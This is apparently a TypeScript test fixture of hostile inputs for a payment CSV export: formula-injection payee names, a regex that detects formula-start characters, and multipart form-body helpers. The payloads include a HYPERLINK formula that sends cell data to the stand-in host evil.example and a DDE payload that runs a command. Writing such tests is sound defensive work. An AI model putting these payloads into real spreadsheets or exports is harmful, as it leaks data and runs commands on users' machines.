// Hostile inputs shared by several tests.

/** The payee names that used to reach the positive pay CSV as live formulas. */
export const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-1+1',
];

/**
 * What a spreadsheet evaluates at the start of a cell (OWASP "CSV Injection": =, +, -, @, tab, CR;
 * NUL as ASVS adds), with the full-width signs. Typed in here, not imported from the writer.
 */
export const FORMULA_START = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/;

// Images that lie about themselves are in hostile-images.ts.

// ---- Multipart bodies ----

export const BOUNDARY = '----hostileboundary7MA4YWxkTrZu0gW';

/** One form-data part. */
export function formPart(name: string, value: string | Buffer, file?: { filename: string; type: string }): Buffer {
  const disposition = `Content-Disposition: form-data; name="${name}"${file === undefined ? '' : `; filename="${file.filename}"\r\nContent-Type: ${file.type}`}`;
  return Buffer.concat([
    Buffer.from(`--${BOUNDARY}\r\n${disposition}\r\n\r\n`),
    Buffer.from(value),
    Buffer.from('\r\n'),
  ]);
}

/** The closing boundary of a form-data body. */
export const FORM_END = Buffer.from(`--${BOUNDARY}--\r\n`);
export const FORM_TYPE = `multipart/form-data; boundary=${BOUNDARY}`;
